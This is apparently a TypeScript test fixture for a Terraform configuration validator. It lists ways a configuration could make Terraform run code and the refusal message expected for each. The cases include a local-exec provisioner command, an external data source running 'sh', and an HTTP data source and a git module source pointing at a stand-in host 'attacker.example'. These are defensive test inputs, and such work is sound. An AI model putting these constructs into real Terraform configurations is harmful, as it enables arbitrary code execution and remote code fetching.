import { type Attack, branch, cache, resource, says } from "./attack";

/** Code that Terraform would run. */
export const code: Attack[] = [
  ["a provisioner", cache((it) => (it.provisioner = [{ "local-exec": { command: "id" } }])), "cache has provisioner"],
  ["a connection", cache((it) => (it.connection = { host: "attacker.example" })), "cache has connection"],
  [
    "terraform_data with local-exec",
    resource("terraform_data", { provisioner: [] }),
    "resource.terraform_data is refused",
  ],
  ["null_resource", resource("null_resource", {}), "resource.null_resource is refused"],
  [
    "a provisioner in a removed block",
    branch((it) => (it.removed = [{ from: "a.b", provisioner: [] }])),
    "removed.provisioner",
  ],
  ["data external", branch((it) => (it.data = { external: { own: { program: ["sh"] } } })), "data.external is refused"],
  [
    "data http",
    branch((it) => (it.data = { http: { own: { url: "http://attacker.example" } } })),
    "data.http is refused",
  ],
  ["a module", branch((it) => (it.module = { own: { source: "git::https://attacker.example" } })), "module is refused"],
  ["an ephemeral resource", branch((it) => (it.ephemeral = {})), "ephemeral is refused"],
  ["a check with a data source", branch((it) => (it.check = {})), "check is refused"],
  ["a function of a provider", says(`\${provider::own::read()}`), "an expression that is not understood"],
];
